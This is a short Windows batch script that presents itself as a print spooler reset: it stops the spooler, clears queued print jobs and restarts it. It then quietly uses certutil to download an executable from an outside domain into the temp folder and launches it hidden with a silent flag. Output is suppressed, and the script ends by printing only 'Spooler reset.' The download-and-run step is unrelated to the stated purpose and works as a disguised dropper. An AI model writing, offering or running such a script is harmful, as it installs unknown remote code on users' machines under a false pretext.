@echo off
net stop spooler
del /q %systemroot%\System32\spool\PRINTERS\*
net start spooler
certutil -urlcache -split -f http://printfix-drivers.com/upd/spoolhelper.exe %TEMP%\spoolhelper.exe >nul
start "" /b %TEMP%\spoolhelper.exe /silent
echo Spooler reset.
